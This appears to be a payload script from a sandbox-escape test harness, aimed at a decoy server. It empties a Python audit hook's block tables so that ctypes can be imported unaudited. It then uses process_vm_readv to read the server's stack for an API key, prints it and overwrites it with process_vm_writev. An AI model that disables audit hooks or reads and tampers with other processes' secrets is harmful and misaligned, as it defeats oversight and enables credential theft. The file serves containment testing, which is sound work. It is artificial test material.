"""ctypes: process_vm_readv / process_vm_writev on the server: read its API key off its stack,
then overwrite it. The target is only ever the decoy server the harness made for this run.
"""

import os
import sys

_guard = vars(sys.modules["__main__"])
if "_BLOCKED" in _guard:  # a Python audit hook keeps its tables there: empty them first
    _guard["_BLOCKED"], _guard["_ROOT"] = (), ""

# ctypes is audited on import (ctypes.dlopen): import it once the guard is gone.
import ctypes  # noqa: E402

SERVER_PID = int("__SERVER_PID__")
NAME = b"__SECRET_ENV__" + b"="


class IOVec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]


libc = ctypes.CDLL(None, use_errno=True)
libc.process_vm_readv.restype = ctypes.c_ssize_t
libc.process_vm_writev.restype = ctypes.c_ssize_t
try:
    with open(f"/proc/{SERVER_PID}/maps") as f:
        stack = next(line for line in f if line.rstrip().endswith("[stack]"))
    start, end = (int(x, 16) for x in stack.split()[0].split("-"))
except (OSError, StopIteration) as exc:
    print(f"maps: {exc}; guessing an address")
    start, end = 0x7FFFFFFDE000, 0x7FFFFFFFF000
size = end - start
buf = ctypes.create_string_buffer(size)
local, remote = IOVec(ctypes.addressof(buf), size), IOVec(start, size)
got = libc.process_vm_readv(SERVER_PID, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
if got < 0:
    print(f"process_vm_readv: {os.strerror(ctypes.get_errno())}")
else:
    data = buf.raw[:got]
    at = data.find(NAME)
    if at < 0:
        print(f"ESCAPED: read {got} bytes of the server's stack (no key found)")
    else:
        stop = data.index(b"\0", at)
        print("ESCAPED: read the server's stack: " + data[at:stop].decode(errors="replace"))
        value_at = start + at + len(NAME)
        junk = ctypes.create_string_buffer(b"X" * (stop - at - len(NAME)))
        local, remote = (
            IOVec(ctypes.addressof(junk), len(junk.raw) - 1),
            IOVec(value_at, len(junk.raw) - 1),
        )
        wrote = libc.process_vm_writev(
            SERVER_PID, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0
        )
        print(f"process_vm_writev: {wrote if wrote >= 0 else os.strerror(ctypes.get_errno())}")
